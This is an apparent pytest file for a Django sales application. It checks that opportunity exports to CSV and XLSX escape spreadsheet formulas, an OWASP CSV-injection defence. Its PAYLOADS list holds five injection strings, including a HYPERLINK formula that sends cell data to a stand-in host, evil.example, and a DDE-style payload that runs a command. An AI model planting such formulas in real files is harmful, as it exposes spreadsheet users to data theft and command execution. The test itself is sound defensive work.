"""The opportunity exports never hand a spreadsheet program a formula (issue #12 item 6, OWASP CSV injection): the
review's five payloads in a description come out as text in the XLSX and with a leading ``'`` in the CSV, and a
negative amount stays a number in both."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from salescycle import testing
from salescycle.opportunities.models import Opportunity

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+1+2",
    "-2+3",
]


@pytest.fixture
def signed_in(client: Client, db: None) -> Client:
    testing.demo_setup()
    user = testing.make_user("exporter", role="Sales Manager")
    salesperson = testing.make_salesperson("AH", user=user)
    contact = testing.make_company("CT-1")
    for index, description in enumerate(PAYLOADS, start=1):
        testing.create_opportunity(
            contact, salesperson, no=f"OP-{index}", description=description, creation_date=dt.date(2026, 1, 5)
        )
    # A negative amount (credit-like figures): must stay a number, not become text.
    Opportunity.objects.filter(no="OP-5").update(estimated_value=Decimal("-2.5"))
    client.force_login(user)
    return client


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_csv_export_escapes_every_formula_payload_and_keeps_a_negative_amount(signed_in: Client) -> None:
    response = signed_in.get("/opportunities/export.csv?sort=no")
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    header = rows[0]
    by_no = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    for index, payload in enumerate(PAYLOADS, start=1):
        assert by_no[f"OP-{index}"]["Description"] == "'" + payload
    assert Decimal(by_no["OP-5"]["Estimated Value (LCY)"]) == Decimal("-2.5")  # a number, no leading quote
    assert by_no["OP-1"]["No."] == "OP-1"


def test_the_xlsx_export_has_no_formula_and_keeps_a_negative_amount_a_number(signed_in: Client) -> None:
    content = _body(signed_in.get("/opportunities/export.xlsx?sort=no"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert b"<f>" not in xml  # no formula element anywhere
    assert b"<f " not in xml
    workbook = load_workbook(io.BytesIO(content))
    cells = list(workbook.active.iter_rows())
    header = [cell.value for cell in cells[0]]
    description = header.index("Description")
    value = header.index("Estimated Value (LCY)")
    by_no = {row[0].value: row for row in cells[1:]}
    for index, payload in enumerate(PAYLOADS, start=1):
        cell = by_no[f"OP-{index}"][description]
        assert (cell.value, cell.data_type) == (payload, "s")
    negative = by_no["OP-5"][value]
    assert (negative.data_type, Decimal(str(negative.value))) == ("n", Decimal("-2.5"))
